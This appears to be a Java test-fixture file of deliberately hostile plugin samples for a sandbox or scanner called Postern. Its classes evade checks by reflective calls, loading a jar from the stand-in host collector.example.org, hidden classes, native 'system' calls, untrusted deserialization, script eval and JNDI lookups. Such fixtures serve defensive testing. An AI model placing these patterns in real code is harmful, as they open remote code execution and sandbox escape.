// SPDX-License-Identifier: Apache-2.0
package dev.postern.itests.hostile;

import java.io.IOException;
import java.io.InputStream;
import java.io.ObjectInputStream;
import java.lang.foreign.FunctionDescriptor;
import java.lang.foreign.Linker;
import java.lang.foreign.ValueLayout;
import java.lang.invoke.MethodHandle;
import java.lang.invoke.MethodHandles;
import java.net.URI;
import java.net.URL;
import java.net.URLClassLoader;
import java.nio.file.Path;
import javax.naming.InitialContext;
import javax.naming.NamingException;
import javax.script.ScriptEngineManager;
import javax.script.ScriptException;

import dev.postern.core.home.PosternHome;

/** Code that leaves by a door behind the door. */
@SuppressWarnings({"unused", "BanJNDI", "restricted"})
public final class Disguises {
    private Disguises() {}

    /** No class that is refused is named. */
    public static final class CallsByName {
        Object run(String type, String method) throws ReflectiveOperationException {
            return Class.forName("java.lang." + type).getMethod(method, String.class).invoke(null, "id");
        }
    }

    /** What was examined is not what runs. */
    public static final class LoadsCodeFromElsewhere {
        Class<?> run() throws IOException, ClassNotFoundException {
            var from = new URL[]{URI.create("https://collector.example.org/a.jar").toURL()};
            return new URLClassLoader(from).loadClass("org.example.A");
        }
    }

    /** Out of a resource. */
    public static final class DefinesHiddenClasses {
        Class<?> run(byte[] code) throws IllegalAccessException {
            return MethodHandles.lookup().defineHiddenClass(code, true).lookupClass();
        }
    }

    /** With all of its rights. */
    public static final class LoadsALibrary {
        void run() {
            System.load("/libmine.so");
        }
    }

    /** Without a library of its own. */
    public static final class CallsNativeCode {
        MethodHandle run() {
            var linker = Linker.nativeLinker();
            return linker.downcallHandle(linker.defaultLookup().find("system").orElseThrow(),
                    FunctionDescriptor.of(ValueLayout.JAVA_INT, ValueLayout.ADDRESS));
        }
    }

    /** From whoever writes them. */
    public static final class ReadsObjects {
        Object run(InputStream in) throws IOException, ClassNotFoundException {
            return new ObjectInputStream(in).readObject();
        }
    }

    /** Which is closed to plugins, if they keep to what they may import. */
    public static final class AsksTheGatewaysInside {
        Path run(Path home) {
            return new PosternHome(home).data();
        }
    }

    /** If there is an engine. */
    public static final class RunsScripts {
        Object run(String script) throws ScriptException {
            return new ScriptEngineManager().getEngineByName("js").eval(script);
        }
    }

    /** And gets what is found there. */
    public static final class LooksUpNames {
        Object run(String name) throws NamingException {
            return new InitialContext().lookup(name);
        }
    }
}
